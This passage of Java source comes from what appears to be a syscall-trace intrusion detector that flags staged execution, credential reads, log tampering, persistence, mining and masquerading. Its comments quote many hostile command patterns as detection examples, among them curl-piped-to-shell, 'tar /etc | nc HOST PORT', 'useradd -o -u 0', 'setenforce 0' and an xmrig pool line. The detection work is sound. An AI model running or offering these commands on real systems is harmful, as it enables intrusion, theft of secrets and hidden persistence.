            }
            boolean packaged = underPackageTool;
            execIndicators(path, argv, kind);
            String inline = ExecRules.inlineProgram(kind, argv); // bash -c PROGRAM, python3 -c PROGRAM
            handTool = (kind & (ExecRules.DOWNLOADER | ExecRules.SHELL)) != 0 || (kind & ExecRules.INTERPRETER) != 0 && inline != null;
            if (Indicators.reachesForTheHost(exeBase, argv)) {
                set(Feature.IND_SETID_ATTEMPT); // docker run -v /:/host, nsenter -t 1 -m: the host's root, from a container or a group
                priority = EvidenceLog.HIGH;
            }
            if (Indicators.minesCoins(exeBase, argv)) {
                set(Feature.IND_CRYPTOMINING); // xmrig -o stratum+tcp://POOL --donate-level 1, and the shell starting it
                priority = EvidenceLog.HIGH;
            }
            if (!packaged && Indicators.impairsDefenses(exeBase, argv)) {
                set(Feature.IND_LOG_TAMPER); // systemctl stop auditd, setenforce 0; not a package's maintainer script (prerm)
                priority = EvidenceLog.HIGH;
            }
            if (runsFetchedText(inline) || scriptPath != null && fetchedInFamily(scriptPath)) {
                set(Feature.IND_STAGED_EXEC); // bash -c "$(curl URL)", curl -o x.sh URL && sh x.sh: code from the network
                priority = EvidenceLog.HIGH;
            } else if ((kind & ExecRules.INTERPRETER) != 0 && Indicators.fetchesAndEvaluates(inline, argv)) {
                set(Feature.IND_STAGED_EXEC); // python3 -c "exec(urlopen(URL).read())": code from the network run in memory
                priority = EvidenceLog.HIGH;
            } else if (runsFetchedCommand(argv)) {
                set(Feature.IND_STAGED_EXEC); // eval "$(curl URL)": the shell runs the download's command lines itself
                priority = EvidenceLog.HIGH;
                log().add(EvidenceLog.HIGH, "its command line came in its family's download: " + cQuoted(String.join(" ", argv)));
            } else if (runsFetchedLine(inline)) {
                set(Feature.IND_STAGED_EXEC); // curl URL | awk '{system($0)}': a filter runs the download's lines one by one
                priority = EvidenceLog.HIGH;
                log().add(EvidenceLog.HIGH, "its program is a command of its family's download: " + cQuoted(inline));
            }
            String fromNetwork = programFromNetwork(inline, argv);
            if (fromNetwork != null) {
                set(Feature.IND_STAGED_EXEC); // a web shell's sh -c id, a command channel's, an injected ;id
                priority = EvidenceLog.HIGH;
                log().add(EvidenceLog.HIGH, "its program came in a network read: " + cQuoted(fromNetwork));
                networkReads = null; // judged here: sh -c 'uname -a' does not make its uname a second find
            }
            fetchedText = null; // the new program's own reads from here on
            fetchedPipe = 0;
            fetchedFileFd = -1;
            fetchedFileOpened = false;
            shellReadPipe = 0;
        }
        if (connectedInet) {
            set(Feature.EXEC_AFTER_CONNECT);
            priority = Math.max(priority, EvidenceLog.MEDIUM);
        }
        note(priority, e, Arguments.nth(args, pathIndex), Arguments.nth(args, pathIndex + 1));
    }

    /**
     * Schema 44: the program a dynamic loader was told to run ({@code ld.so PROGRAM}; not by {@code ldd}, whose shell
     * runs the loader on the file it examines), judged as an exec of it would be: in {@code /tmp}, {@code /var/tmp} or
     * {@code /dev/shm} ({@code exec.from_tmp}; {@code ind.staged_exec} unless its family linked it there), behind a
     * descriptor, hidden, created by this process or fetched by its family ({@code ind.staged_exec}).
     *
     * @param program the program's path, resolved against the working directory when known
     * @return true when it counted
     */
    private boolean loadsStagedProgram(String program, int pid) {
        if (program == null || program.isEmpty()) {
            return false;
        }
        boolean staged = false;
        if ((PathRules.classify(program, pid) & PathRules.TMP) != 0) {
            set(Feature.EXEC_FROM_TMP);
            staged = !builtInFamily(program);
        }
        staged |= program.startsWith("/proc/self/fd/") || program.startsWith("/dev/fd/") || hidden(program)
                || createdHere(program) && !builtInFamily(program) || fetchedInFamily(program);
        if (staged) {
            set(Feature.IND_STAGED_EXEC);
        }
        return staged;
    }

    private void fork(TraceEvent e, boolean ok) {
        forks++;
        windowForks++;
        if (ok && e.returnValue() > 0) {
            node().childStarted();
            spreadStorm();
        }
        if (!ok && e.errno() == 11 && !forkFailedEagain) {
            forkFailedEagain = true; // EAGAIN: the process limit is reached
            note(EvidenceLog.MEDIUM, e, e.arguments());
        }
    }

    /**
     * @param mmap true for mmap (anonymous when its flags say MAP_ANONYMOUS, decoded only for executable
     *     mappings), false for mprotect (always counted as anonymous)
     */
    private void memory(TraceEvent e, CharSequence prot, boolean mmap) {
        if (!holds(prot, 'X') || !Arguments.hasFlag(prot, "PROT_EXEC")) { // most mappings: no X, no PROT_EXEC
            return;
        }
        if (Arguments.hasFlag(prot, "PROT_WRITE")) {
            set(Feature.MEM_WX_MAPPING);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if (!mmap || Arguments.hasFlag(Arguments.nth(e.arguments(), 3), "MAP_ANONYMOUS")) {
            marks[Feature.MEM_ANON_EXEC.ordinal()]++;
        } else {
            CharSequence fdArg = Arguments.nth(e.arguments(), 4);
            CharSequence d = Arguments.fdDecoration(fdArg);
            if ((startsWith(d, "/tmp/") || startsWith(d, "/var/tmp/") || startsWith(d, "/dev/shm/")) && !examinesOnly) {
                String path = Arguments.fdPath(fdArg);
                if (path != null && !builtInFamily(path)) {
                    set(Feature.IND_STAGED_EXEC); // LD_PRELOAD=/tmp/x.so, a dlopen of a dropped library: code run from /tmp
                    note(EvidenceLog.HIGH, e, e.arguments());
                }
            } else if (startsWith(d, "/") && !examinesOnly && familyMade(FETCHED, true) && !systemLibrary(d)) {
                String path = Arguments.fdPath(fdArg);
                if (path != null && fetchedInFamily(path) && !builtInFamily(path)) {
                    set(Feature.IND_STAGED_EXEC); // schema 47: curl -o ~/.cache/x.so URL; LD_PRELOAD=~/.cache/x.so ls
                    note(EvidenceLog.HIGH, e, e.arguments());
                }
            }
        }
    }

    /**
     * @param path a mapped file's {@code -y} path
     * @return true for the system's own library directories, whose files a download's name (marks are keyed by file
     *     name) must not make downloads: {@code /usr/lib}, {@code /lib}, {@code /usr/lib64}, {@code /lib64}, {@code /usr/libexec}
     */
    private static boolean systemLibrary(CharSequence path) {
        return startsWith(path, "/usr/lib/") || startsWith(path, "/lib/") || startsWith(path, "/usr/lib64/") || startsWith(path, "/lib64/")
                || startsWith(path, "/usr/libexec/") || startsWith(path, "/usr/lib32/") || startsWith(path, "/lib32/");
    }

    private void privileged(TraceEvent e, boolean ok, Feature f) {
        set(f);
        if (ok && f == Feature.PRIV_SETUID && realUid > 0 && (imageKind & (ExecRules.SHELL | ExecRules.INTERPRETER)) != 0 && namesRoot(e.arguments())) {
            set(Feature.IND_SETID_ATTEMPT); // python -c 'os.setuid(0)' run by a user, through cap_setuid or a setuid copy
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if (!ok && (e.errno() == 1 || e.errno() == 13)) {
            privDenied++;
            if (e.errno() == 1 && (f == Feature.PRIV_SETUID || f == Feature.PRIV_SETGID || f == Feature.PRIV_CAPSET)) {
                set(Feature.IND_SETID_ATTEMPT);
            }
        }
        note(f == Feature.PRIV_SETUID || f == Feature.PRIV_SETGID ? EvidenceLog.MEDIUM : EvidenceLog.HIGH, e, e.arguments());
    }

    /** @return true when one of the ids a set*uid call asks for is 0: {@code setuid(0)}, {@code setresuid(0, 0, 0)} */
    private static boolean namesRoot(CharSequence args) {
        for (int i = 0, n = Arguments.count(args); i < n && i < 3; i++) {
            CharSequence id = Arguments.nth(args, i);
            if (id.length() == 1 && id.charAt(0) == '0') {
                return true;
            }
        }
        return false;
    }

    private void ptrace(TraceEvent e, boolean ok) {
        CharSequence request = Arguments.nth(e.arguments(), 0);
        if (Arguments.hasFlag(request, "PTRACE_TRACEME")) {
            set(Feature.PRIV_PTRACE);
            return;
        }
        privileged(e, ok, Feature.PRIV_PTRACE);
        if (Arguments.hasFlag(request, "PTRACE_ATTACH") || Arguments.hasFlag(request, "PTRACE_SEIZE")
                || Arguments.hasFlag(request, "PTRACE_POKETEXT") || Arguments.hasFlag(request, "PTRACE_POKEDATA")
                || Arguments.hasFlag(request, "PTRACE_POKEUSER") || Arguments.hasFlag(request, "PTRACE_SETREGS")) {
            set(Feature.PRIV_PTRACE_ATTACH);
            injection();
        }
    }

    private void kill(TraceEvent e, int id) {
        CharSequence args = e.arguments();
        int sigIndex = id == Syscalls.TGKILL ? 2 : 1;
        CharSequence sig = Arguments.nth(args, sigIndex);
        if (sig.length() == 0 || sig.length() == 1 && sig.charAt(0) == '0') {
            return; // kill(pid, 0) only probes; ADFA-like traces have no arguments
        }
        long target = Arguments.parseLong(Arguments.nth(args, 0));
        if (target != e.pid()) {
            marks[Feature.SIG_SENT_LOG.ordinal()]++;
        }
        if (id == Syscalls.KILL && target != Arguments.NOT_A_NUMBER && target < 0
                && (Arguments.hasFlag(sig, "SIGKILL") || Arguments.hasFlag(sig, "SIGTERM") || Arguments.hasFlag(sig, "SIGSTOP"))) {
            set(Feature.PROC_KILL_OTHERS);
            note(EvidenceLog.MEDIUM, e, args);
        }
    }

    // ---------------------------------------------------------------- indicators

    /** @param directory opened with O_DIRECTORY: listed, not read (find walking through ~/.gnupg/private-keys-v1.d) */
    private void openedForRead(TraceEvent e, String path, int bits, boolean directory) {
        int recon = Indicators.reconGroup(path);
        if (recon != 0 && !walkedInto(path)) { // an archiver walking /etc reads passwd, hosts, fstab... as files
            reconKinds |= recon;
        }
        boolean workloadSecret = Indicators.workloadSecret(path);
        if ((workloadSecret || Indicators.clientHeldSecret(path)) && !directory && (handTool || Indicators.fileReader(exeBase))
                && !walkedInto(path)) {
            set(Feature.IND_CREDENTIAL_READ); // cat /var/run/secrets/kubernetes.io/serviceaccount/token; not the pod's client
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        boolean secret = (bits & PathRules.SHADOW) != 0 || Indicators.credentialStore(path) || Indicators.privateKey(path)
                || (bits & PathRules.PROC_OTHER) != 0 && path.endsWith("/environ") && !Indicators.Role.PROCESS_VIEWER.of(exeBase);
        if ((secret || workloadSecret) && !directory && !readSecret) {
            readsSecrets(); // tar czf - /etc | nc HOST PORT: a backup's read, but its output must not go online
        }
        if (secret && !directory && !Indicators.Role.ACCOUNT.of(exeBase) && !Indicators.Role.SSH.of(exeBase) && !walkedInto(path)
                && !((bits & PathRules.SHADOW) != 0 && installedPerlProgram()) && !Indicators.storeClient(path, exeBase)) {
            set(Feature.IND_CREDENTIAL_READ);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if ((bits & PathRules.PROC_MEM) != 0) {
            procMem(e, path);
        }
    }

    /**
     * @return true if it runs a Perl program installed with the system (a script under /usr, /bin or /sbin, run by its
     *     name or as {@code perl FILE}; not {@code perl -e}, not a script elsewhere): Perl's getpwnam, getpwuid and
     *     getpwent read the caller's /etc/shadow entry whenever they run as root ({@code psql}'s pg_wrapper, debconf,
     *     adduser, ...)
     */
    private boolean installedPerlProgram() {
        if (!perl || exePath == null) {
            return false;
        }
        String program = exeBase.startsWith("perl") ? scriptPath : exePath;
        return program != null && (program.startsWith("/usr/") && !program.startsWith("/usr/local/")
                || program.startsWith("/bin/") || program.startsWith("/sbin/"));
    }

    /** link and linkat: a new name, written; readlink: {@link #perlSaysSo}. Rare calls, kept out of the dispatch. */
    private void links(TraceEvent e, int id, boolean ok) {
        if (id == Syscalls.READLINK) {
            perlSaysSo(e, ok);
        } else {
            modified(e, id == Syscalls.LINK ? fromWorkingDirectory(path(e, 1)) : path(e, 3), "link");
        }
    }

    /** readlink of {@code /proc/self/exe} naming a Perl interpreter: see {@link #perl}. */
    private void perlSaysSo(TraceEvent e, boolean ok) {
        CharSequence args = e.arguments();
        if (ok && startsWith(args, "\"/proc/self/exe\"")) {
            String target = Arguments.decodeString(Arguments.nth(args, 1));
            perl = target != null && target.startsWith("perl", target.lastIndexOf('/') + 1);
        }
    }

    /**
     * @return true when an archiver or sync tool reached the file by walking a directory it was given ({@code tar czf
     *     etc.tgz /etc}, {@code tar czf home.tgz /home/u}: backups), not because its argv names the file ({@code tar
     *     czf x.tgz /etc/shadow}, {@code tar -C /etc -czf x.tgz shadow}) or the hidden directory that holds it
     *     ({@code tar cf - /root/.ssh}); a list of names read from a file ({@code tar -T}) counts as a walk
     */
    private boolean walkedInto(String path) {
        if (treeArgv == null) {
            return false;
        }
        int slash = path.lastIndexOf('/');
        String base = path.substring(slash + 1);
        String dir = slash > 0 ? path.substring(0, slash) : "/";
        boolean hiddenDir = dir.lastIndexOf('/') + 1 < dir.length() && dir.charAt(dir.lastIndexOf('/') + 1) == '.';
        for (int i = 1; i < treeArgv.size(); i++) {
            String arg = treeArgv.get(i);
            int end = arg.length();
            while (end > 1 && arg.charAt(end - 1) == '/') {
                end--;
            }
            String name = arg.substring(0, end);
            if (name.equals(path) || name.equals(base) || name.endsWith("/" + base) || path.endsWith("/" + name)
                    || hiddenDir && (dir.equals(name) || dir.endsWith("/" + name))) {
                return false; // named, or its .ssh-like directory named: taken, not walked into
            }
        }
        return true;
    }

    /**
     * @return true for a login record ({@code wtmp}, {@code btmp}, {@code lastlog}, {@code utmp}): files that always
     *     exist, so a write-open without {@code O_APPEND} is an overwrite in place even with {@code O_CREAT}
     *     ({@code dd of=/var/log/wtmp conv=notrunc}, a shell's {@code 1<>}: schema 35)
     */
    private static boolean loginRecord(String path) {
        return (path.startsWith("/var/log/") || path.startsWith("/var/run/") || path.startsWith("/run/"))
                && (path.endsWith("/wtmp") || path.endsWith("/btmp") || path.endsWith("/lastlog") || path.endsWith("/utmp"));
    }

    /** @param flags {@link OpenFlags} bits */
    private void openedForWrite(TraceEvent e, String path, int bits, int flags, boolean ok) {
        if ((bits & PathRules.PROC_MEM) != 0) {
            procMem(e, path);
        }
        if (ok) {
            if ((flags & (OpenFlags.NO_ARGUMENT | OpenFlags.CREAT)) != 0) {
                markCreated(path, false);
            }
            if (!path.startsWith("/dev/") && !path.startsWith("/proc/") && !path.startsWith("/sys/")) {
                filesWritten++;
            }
            if ((flags & (OpenFlags.WRONLY | OpenFlags.RDWR | OpenFlags.CREAT | OpenFlags.TRUNC | OpenFlags.APPEND)) == OpenFlags.RDWR
                    && e.hasReturnValue() && !path.startsWith("/dev/") && !path.startsWith("/proc/") && !path.startsWith("/sys/")
                    && !createdInFamily(path)) {
                inPlaceFd = (int) e.returnValue(); // open(f, "r+b"): read, then written back over itself?
                inPlacePath = path.hashCode();
                inPlaceRead = -1;
            }
            changedIndicators(e, path, bits, (flags & OpenFlags.TRUNC) != 0 ? "truncate"
                    : (flags & OpenFlags.APPEND) != 0 || (flags & OpenFlags.CREAT) != 0 && !loginRecord(path) ? "create" : "overwrite");
        } else if ((e.errno() == 13 || e.errno() == 1)
                && ((bits & (PathRules.PASSWD | PathRules.SHADOW | PathRules.SUDOERS | PathRules.LD_PRELOAD | PathRules.CRON
                | PathRules.SYSTEMD | PathRules.SHELL_RC)) != 0 || Indicators.sshLoginFile(path) || Indicators.kernelHook(path) || Indicators.rootEventScript(path))
                && !Indicators.Role.ACCOUNT.of(exeBase) && !Indicators.Role.PACKAGE.of(exeBase)) {
            set(Feature.IND_ACCOUNT_TAMPER); // denied: an unprivileged attempt on the system's accounts or autostart
            note(EvidenceLog.HIGH, e, e.arguments());
        } else if ((e.errno() == 13 || e.errno() == 1) && (bits & PathRules.LOG) != 0 && (flags & OpenFlags.TRUNC) != 0) {
            logChanged(e, path, "truncate"); // echo > /var/log/auth.log as nobody: an attempt to wipe it, as rm -f is
        }
    }

    /**
     * A successful change of {@code path}.
     *
     * @param how create (new file or append), overwrite, truncate, unlink (also a rename's source), rename
     *     (its target), symlink, link (a hard link's new name), timestamps, ftruncate
     */
    private void changedIndicators(TraceEvent e, String path, int bits, String how) {
        if (how.equals("rename") || how.equals("symlink") || how.equals("link")) {
            markCreated(path, how.equals("symlink"));
        }
        if (((bits & (PathRules.CRON | PathRules.SYSTEMD | PathRules.SHELL_RC | PathRules.LD_PRELOAD)) != 0
                || Indicators.sshLoginFile(path) || Indicators.kernelHook(path) || Indicators.rootEventScript(path) && !underPackageTool)
                && !how.equals("unlink") && !how.equals("unlock") && !Indicators.Role.PACKAGE.of(exeBase)) {
            // hooks, PAM and loader settings are what packages install: their maintainer scripts' cp and ucf are not flagged
            set(Feature.IND_PERSISTENCE);
        }
        if ((bits & (PathRules.PASSWD | PathRules.SHADOW | PathRules.SUDOERS | PathRules.LD_PRELOAD)) != 0
                && !Indicators.Role.ACCOUNT.of(exeBase) && !Indicators.Role.PACKAGE.of(exeBase)) {
            set(Feature.IND_ACCOUNT_TAMPER);
        }
        if (Indicators.systemProgram(path) && !how.equals("unlink") && !how.equals("unlock") && !underPackageTool
                && !Indicators.Role.PACKAGE.of(exeBase) && !Indicators.keepsSystemDirectories(exeBase)) {
            set(Feature.IND_PERSISTENCE); // a system program or library replaced or planted: schema 32
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if ((path.endsWith(".pth") || path.endsWith("customize.py")) && addsContent(how) && !underPackageTool && !installsPython
                && !fetchesByDesign()) {
            String full = fromWorkingDirectory(path);
            if (full != null && Indicators.pythonStartupHook(full)) {
                set(Feature.IND_PERSISTENCE); // schema 44: a .pth or sitecustomize.py, run at every start of Python
                note(EvidenceLog.HIGH, e, e.arguments());
            }
        }
        if ((bits & PathRules.LOG) != 0) {
            logChanged(e, path, how);
        }
    }

    /** @return true for a change that can put new text under the path: a write, a new name (not unlink, chattr, touch) */
    private static boolean addsContent(String how) {
        return how.equals("create") || how.equals("overwrite") || how.equals("truncate") || how.equals("rename")
                || how.equals("symlink") || how.equals("link");
    }

    /** A log, login record or history changed (or, for unlink and truncate, an attempt that failed). */
    private void logChanged(TraceEvent e, String path, String how) {
        if (how.equals("create") || how.equals("link") || how.equals("lock") || Indicators.Role.LOG_ROTATOR.of(exeBase)) {
            return; // a new file or a new name (link cannot replace one) changes no log; chattr +a protects one
        }
        boolean varLog = path.startsWith("/var/log/");
        if (varLog && Indicators.ownLogDirectory(exeBase, path)) {
            return; // its own logs: apt-get replaces /var/log/apt/eipp.log.xz at every install
        }
        boolean loginRecord = path.endsWith("tmp") || path.endsWith("lastlog");
        boolean history = !varLog && !loginRecord;
        boolean writes = how.equals("truncate") || how.equals("overwrite") || how.equals("ftruncate");
        boolean savesOwnHistory = Indicators.historyKeeper(exeBase) && mayKeepHistory && forkGeneration == 0;
        boolean saves = writes || how.equals("rename"); // bash 5 trims to HISTFILESIZE through HISTFILE-PID.tmp and a rename
        if (history && saves && savesOwnHistory || loginRecord && writes && Indicators.Role.ACCOUNT.of(exeBase)) {
            return; // a shell saving its own history (not sh -c ': > ~/.bash_history', nor a child before its exec), login or su
        }
        set(Feature.IND_LOG_TAMPER);
        note(EvidenceLog.HIGH, e, e.arguments());
    }

    /**
     * {@code ioctl(FS_IOC_GETFLAGS/SETFLAGS)}, what {@code chattr} and {@code lsattr} call: the immutable ({@code i}) or
     * append-only ({@code a}) flag set on a file, or taken off one whose flags it just read with them, is a change to
     * that file ({@link #modified}: account files; for persistence places only setting them, which keeps a planted
     * job from being removed; for logs only taking them off, as {@code chattr +a} protects a log). A
     * miner's {@code chattr +i /etc/cron.d/job} keeps its cron job from being removed; {@code chattr -ia
     * /etc/passwd} comes before the edit.
     */
    private void inodeFlags(TraceEvent e, CharSequence request) {
        CharSequence args = e.arguments();
        boolean set = Indicators.regionIs(request, 0, request.length(), "FS_IOC_SETFLAGS");
        if (!set && !Indicators.regionIs(request, 0, request.length(), "FS_IOC_GETFLAGS")) {
            return;
        }
        String path = Arguments.fdPath(Arguments.nth(args, 0));
        if (path == null) {
            return; // no -y: which file is not known
        }
        CharSequence flags = Arguments.nth(args, 2);
        boolean locked = Arguments.hasFlag(flags, "FS_IMMUTABLE_FL") || Arguments.hasFlag(flags, "FS_APPEND_FL");
        if (!set) {
            lockedFlagsPath = locked ? path : null;
            return;
        }
        boolean wasLocked = path.equals(lockedFlagsPath);
        lockedFlagsPath = null;
        if (locked) {
            modified(e, path, "lock");
        } else if (wasLocked) {
            modified(e, path, "unlock");
        }
    }

    private void timestamps(TraceEvent e) {
        CharSequence args = e.arguments();
        CharSequence times = Arguments.nth(args, 2);
        if (times.length() == 0 || times.charAt(0) != '[' || Arguments.hasFlag(times, "UTIME_NOW")) {
            return; // NULL or "now": an ordinary touch, not a forged time
        }
        String path = Arguments.nth(args, 1).toString().equals("NULL") ? Arguments.fdPath(Arguments.nth(args, 0)) : path(e, 1);
        modified(e, path, "timestamps");
    }

    private void execIndicators(String path, List<String> argv, int kind) {
        String base = path.substring(path.lastIndexOf('/') + 1);
        exePath = path;
        exeBase = base;
        unixSocketAppServer = Indicators.unixSocketAppServer(base, argv);
        acceptedInet = false; // a program a server started accepted nothing itself
        perl = false; // until the new program says so
        unpacksArchiveFile = Indicators.unpacksArchiveFile(base, argv);
        encryptingArchiver = Indicators.encryptsAndRemoves(base, argv);
        underPackageTool |= Indicators.Role.PACKAGE.of(base);
        installsPython |= Indicators.installsPythonPackages(base, argv);
        treeArgv = Indicators.Role.TREE.of(base) || Indicators.walksDirectories(base, argv) ? argv : null;
        scriptPath = (kind & (ExecRules.INTERPRETER | ExecRules.SHELL)) != 0 && argv.size() > 1 && !argv.get(1).startsWith("-")
                ? argv.get(1) : null;
        scriptPath = fromWorkingDirectory(scriptPath); // python3 x.py deleting x.py names it absolutely
        forkGeneration = 0;
        spreadStorm(); // the tree of forks it was part of ends here for it
        nodeBeforeExec = forkNode;
        forkNode = null;
        forkAbove = null;
        if (hidden(path) || createdHere(path) && !builtInFamily(path) || fetchedInFamily(path)) {
            set(Feature.IND_STAGED_EXEC);
        }
        if (Indicators.makesRootAccount(base, argv) || Indicators.emptiesRootPassword(base, argv)) {
            set(Feature.IND_ACCOUNT_TAMPER); // useradd -o -u 0: a second root; passwd -d root: root for anyone
        }
        if (!argv.isEmpty() && argv.get(0).startsWith("[") && argv.get(0).endsWith("]") || Indicators.kernelThreadName(base)) {
            set(Feature.IND_MASQUERADE); // poses as a kernel thread in ps: [kworker/0:1] as argv[0], or a file named kdevtmpfsi
        }
        if (Indicators.daemonImpostor(path)) {
            set(Feature.IND_MASQUERADE); // schema 49: /tmp/sshd, ~/.cache/crond: a daemon's name where no daemon lives
            log().add(EvidenceLog.HIGH, "a daemon's name where no daemon is installed: " + cQuoted(path));
        } else if (!argv.isEmpty() && Indicators.daemonAlias(base, argv.get(0))) {
            set(Feature.IND_MASQUERADE); // schema 50: exec -a sshd ./miner
            log().add(EvidenceLog.HIGH, "started as " + cQuoted(argv.get(0)) + ", a daemon's name, but it is " + cQuoted(path));
        }
        if ((kind & ExecRules.SHELL) != 0 && connectedInet) {
            set(Feature.IND_REVERSE_SHELL);
        }
        commandShell = (kind & ExecRules.SHELL_INTERACTIVE) != 0 && (kind & ExecRules.SHELL_C) == 0;
        programFromStdin = ExecRules.readsProgramFromStdin(kind, argv);
        scriptFromFd = scriptPath != null && (scriptPath.startsWith("/dev/fd/") || scriptPath.startsWith("/proc/self/fd/"));
        scriptPipe = 0;
        programReadNoted = false;
        stdinTextSeen = false;
        imageKind = kind;
        sourcedFd = -1;
        mayKeepHistory = (kind & ExecRules.SHELL) == 0 || (kind & ExecRules.SHELL_C) == 0 && scriptPath == null;
        permissionHunt |= Indicators.permissionHunt(base, argv);
    }

    /** /proc/N/mem (or /proc/N/task/T/mem) of a process other than this one. */
    private void procMem(TraceEvent e, String path) {
        int end = path.indexOf('/', 6);
        long who = end < 0 ? Arguments.NOT_A_NUMBER : Arguments.parseLong(path, 6, end);
        if (who != Arguments.NOT_A_NUMBER && who != leaderTid && who != e.pid()) {
            injection();
        }
    }

    private void injection() {
        if (!Indicators.Role.DEBUGGER.of(exeBase)) {
            set(Feature.IND_INJECTION);
        }
    }

    /** @return true if {@code c} occurs in {@code text} (a word holding it can only be there if it does) */
    private static boolean holds(CharSequence text, char c) {
        for (int i = 0, n = text.length(); i < n; i++) {
            if (text.charAt(i) == c) {
                return true;
            }
        }
        return false;
    }

    private static boolean startsWith(CharSequence text, String prefix) {
        if (text.length() < prefix.length()) {
            return false;
        }
        for (int i = 0; i < prefix.length(); i++) {
            if (text.charAt(i) != prefix.charAt(i)) {
                return false;
            }
        }
        return true;
    }

    /** @return where {@code word} first starts in {@code text}, or -1; compares characters, allocates nothing */
    private static int indexOf(CharSequence text, String word) {
        char first = word.charAt(0);
        for (int i = 0, last = text.length() - word.length(); i <= last; i++) {
            if (text.charAt(i) == first && Indicators.regionIs(text, i, text.length(), word)) {
                return i;
            }
        }
        return -1;
    }

    private static boolean hidden(String path) {
        int slash = path.lastIndexOf('/');
        return slash + 2 < path.length() && path.charAt(slash + 1) == '.' && path.charAt(slash + 2) != '.';
    }

    /**
     * Keyed by basename: the same file shows up as an absolute and a cwd-relative path.
     *
     * @param link a symbolic link: running it runs a file that was there (venv's {@code bin/python3})
     */
    private void markCreated(String path, boolean link) {
        int h = key(CREATED, path);
        mark(CREATED, h);
        if (readSecret) {
            mark(SECRET_COPY, h); // the keys of CREATED and SECRET_COPY are the same basename hash
        }
        int dot = path.lastIndexOf('.');
        if (dot > path.lastIndexOf('/') + 1 && !Indicators.Role.TREE.of(exeBase) && !Indicators.Role.PACKAGE.of(exeBase)) {
            mark(STEM, key(STEM, path.substring(0, dot))); // report.docx.locked: report.docx
        }
        if (link || Indicators.Role.BUILDER.of(exeBase) || unpacksArchiveFile && !connectedInet && !familyFetched()) {
            mark(BUILT, h); // an archive file unpacked while nothing was downloaded: tar xzf pkg.tgz; ./configure
        }
        if ((connectedInet || readsFetched) && !fetchesByDesign()) {
            mark(FETCHED, h); // curl -o x, a script saving a download; cp of a download (schema 36)
        } else if (!connectedInet && !link) {
            if (createdOffline == null) {
                createdOffline = new int[CREATED_OFFLINE];
            }
            createdOffline[createdOfflineNext] = h;
            createdOfflineNext = (createdOfflineNext + 1) % CREATED_OFFLINE;
            createdOfflineCount = Math.min(createdOfflineCount + 1, CREATED_OFFLINE);
        }
    }

    /**
     * A rename whose source its family downloaded: the new name is the download ({@code curl -o x.tmp URL; mv x.tmp x;
     * chmod +x x; ./x}), schema 36.
     */
    private void renamedDownload(TraceEvent e, int fromIndex, int toIndex, boolean ok) {
        if (!ok || !familyFetched() && !connectedInet) {
            return; // most renames: nothing of the family was downloaded
        }
        String from = path(e, fromIndex);
        String to = path(e, toIndex);
        if (from != null && to != null && fetchedInFamily(from)) {
            mark(FETCHED, key(FETCHED, to));
        }
    }

    /** Its first inet connect: the files it created just before are its download's ({@link #createdOffline}). */
    private void fetchedBeforeConnect() {
        if (createdOffline != null && !fetchesByDesign()) {
            for (int i = 0; i < createdOfflineCount; i++) {
                mark(FETCHED, createdOffline[i]); // the keys of CREATED and FETCHED are the same basename hash
            }
        }
        createdOffline = null;
        createdOfflineNext = 0;
        createdOfflineCount = 0;
    }

    /**
     * @return true for programs whose job is to download files and make them executable: archivers and VCS
     *     ({@code git clone}), system and language package managers ({@code apt-get}, {@code pip}, node running
     *     {@code npm})
     */
    private boolean fetchesByDesign() {
        String script = scriptPath == null ? null : scriptPath.substring(scriptPath.lastIndexOf('/') + 1);
        return Indicators.Role.TREE.of(exeBase) || Indicators.Role.PACKAGE.of(exeBase)
                || Indicators.Role.PACKAGE_FETCHER.of(exeBase) || Indicators.Role.PACKAGE_FETCHER.of(script);
    }

    private void mark(int kind, int h) {
        int a = (h >>> 20) & (CREATED_BITS - 1);
        int b = h & (CREATED_BITS - 1);
        long[] filter = made[kind];
        if (filter == null) {
            filter = made[kind] = new long[CREATED_BITS / 64];
        }
        filter[a >>> 6] |= 1L << a;
        filter[b >>> 6] |= 1L << b;
    }

    /**
     * @return true if a process of its family made the file (of that {@code kind}): itself or its parent before the
     *     fork, or a process that ended before now below its own (also the one it had before its last exec), its
     *     parent's, its grandparent's or its great-grandparent's fork node
     */
    private boolean madeInFamily(int kind, String path) {
        int h = key(kind, path);
        if (holds(made[kind], h) || parentNode != null && holds(parentNode.endedChildren[kind], h)
                || forkNode != null && holds(forkNode.endedChildren[kind], h)
                || nodeBeforeExec != null && holds(nodeBeforeExec.endedChildren[kind], h)) {
            return true; // nodeBeforeExec: bash -c 'curl -o x.sh URL && sh x.sh' runs its last command in place
        }
        if (nodesAbove != null) {
            for (ForkNode node : nodesAbove) {
                if (node != null && holds(node.endedChildren[kind], h)) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * @return true if a linker or compiler driver of its family wrote the file, or its family made it as a symbolic
     *     link: itself or its parent before the fork, or a process that ended before now below its parent's or its
     *     own fork node ({@code make} linking {@code app} with {@code cc}, then running {@code ./app};
     *     {@code python3 -m venv} linking {@code bin/python3} to {@code /usr/bin/python3}, then running it)
     */
    private boolean builtInFamily(String path) {
        return madeInFamily(BUILT, path);
    }

    /** @return true if anything its family wrote (as far as {@link #madeInFamily} sees) was written after an inet connect */
    private boolean familyFetched() {
        return familyMade(FETCHED, false);
    }

    /**
     * @param beforeExec also the fork node it had before its last exec ({@code bash -c '... && curl ...'} runs its
     *     last command in place)
     * @return true if its family made anything of that kind, as far as {@link #madeInFamily} sees
     */
    private boolean familyMade(int kind, boolean beforeExec) {
        if (made[kind] != null || parentNode != null && parentNode.endedChildren[kind] != null
                || forkNode != null && forkNode.endedChildren[kind] != null
                || beforeExec && nodeBeforeExec != null && nodeBeforeExec.endedChildren[kind] != null) {
            return true;
        }
        if (nodesAbove != null) {
            for (ForkNode node : nodesAbove) {
                if (node != null && node.endedChildren[kind] != null) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * @return true if its family wrote the file after connecting to an inet address: {@code curl -o x} in a script,
     *     then {@code chmod +x x} or {@code ./x}
     */
    private boolean fetchedInFamily(String path) {
        return madeInFamily(FETCHED, path);
    }

    private boolean createdHere(String path) {
        return holds(made[CREATED], key(CREATED, path));
    }

    /**
     * @return true if it, its parent before the fork, a child of its own or a child of its parent's that ended before
     *     now created the file: {@code cat > job.sh; chmod +x job.sh} in a script makes executable what its family
     *     wrote, not someone else's file
     */
    private boolean createdInFamily(String path) {
        return madeInFamily(CREATED, path);
    }

